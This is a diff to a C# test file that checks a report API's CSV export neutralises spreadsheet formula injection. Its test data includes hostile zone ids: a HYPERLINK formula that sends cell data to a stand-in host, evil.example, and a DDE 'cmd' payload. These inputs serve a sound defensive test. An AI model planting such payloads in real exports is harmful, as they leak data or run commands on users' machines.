@@ -11,6 +11,9 @@ public sealed class ReportApiTests : IAsyncLifetime
 {
     private readonly string _workDir = Directory.CreateTempSubdirectory("rp-report-").FullName;
 
+    /// <summary>Zone ids a spreadsheet would run as formulas (the registry already refuses control characters such as tab and CR).</summary>
+    private static readonly string[] FormulaZones = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"];
+
     public Task InitializeAsync() => Task.CompletedTask;
 
     public Task DisposeAsync()
@@ -26,7 +29,7 @@ public sealed class ReportApiTests : IAsyncLifetime
         await using var hub = await HubHost.StartAsync(
             new Dictionary<string, string?>
             {
-                ["Hub:Registry"] = TestRegistry.Write(_workDir),
+                ["Hub:Registry"] = TestRegistry.Write(_workDir, extraZones: FormulaZones),
                 ["Influx:Version"] = "none",
                 ["Alerts:Thresholds:FlyingWireSustainS"] = "1",
                 // The clock jumps by minutes and a month: silence must not raise device_offline at whatever moment the timer runs.
@@ -78,7 +81,21 @@ public sealed class ReportApiTests : IAsyncLifetime
         Assert.Equal(1, zones.EnumerateArray().Sum(z => z.GetProperty("alerts").GetProperty("raised").GetInt32()));
         Assert.Equal(zone.GetRawText(), zones.EnumerateArray().Single(z => z.GetProperty("zone").GetString() == TestRegistry.HostileZone).GetRawText());
         using var zonesCsv = await hub.Http.GetAsync($"/api/reports/service-quality/zones?site={TestRegistry.Site}&month=2026-11&format=csv");
-        Assert.Contains("\"grid 1,a=b\"\"c\\d\",", await zonesCsv.Content.ReadAsStringAsync());
+        var zonesText = await zonesCsv.Content.ReadAsStringAsync();
+        Assert.Contains("\"grid 1,a=b\"\"c\\d\",", zonesText);
+
+        // Zone ids that a spreadsheet would run as formulas are written as text ('=…), and numbers stay numbers.
+        var cells = ReadCsv(zonesText);
+        foreach (var zoneId in FormulaZones)
+        {
+            Assert.Contains(cells, row => row["Zone"] == "'" + zoneId);
+        }
+
+        Assert.All(cells, row =>
+        {
+            Assert.All(new[] { "Site", "Zone", "From", "To", "Figure", "Key" }, column => Assert.False(row[column] is [ '=' or '+' or '-' or '@' or '\t' or '\r', ..], $"{column} '{row[column]}' starts like a formula"));
+            Assert.True(row["Value"] is "" || double.TryParse(row["Value"], System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _), $"Value '{row["Value"]}' is not a number");
+        });
         Assert.Equal(HttpStatusCode.BadRequest, (await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&zone=nowhere")).StatusCode);
 
         var ranking = await hub.GetJsonAsync("/api/reports/ranking?month=2026-11");
@@ -101,5 +118,19 @@ public sealed class ReportApiTests : IAsyncLifetime
         Assert.Contains("month '2027-01' has not begun yet", await future.Content.ReadAsStringAsync());
         Assert.Equal(HttpStatusCode.BadRequest, (await hub.Http.GetAsync("/api/reports/ranking?month=2027-01")).StatusCode);
         Assert.Equal(HttpStatusCode.OK, (await hub.Http.GetAsync($"/api/reports/service-quality?site={TestRegistry.Site}&month=2026-12")).StatusCode); // this month, so far
+    }
+
+    private static List<Dictionary<string, string>> ReadCsv(string text)
+    {
+        using var reader = new CsvHelper.CsvReader(new StringReader(text), System.Globalization.CultureInfo.InvariantCulture);
+        reader.Read();
+        reader.ReadHeader();
+        var rows = new List<Dictionary<string, string>>();
+        while (reader.Read())
+        {
+            rows.Add(reader.HeaderRecord!.ToDictionary(h => h, h => reader.GetField(h)!));
+        }
+
+        return rows;
     }
 }
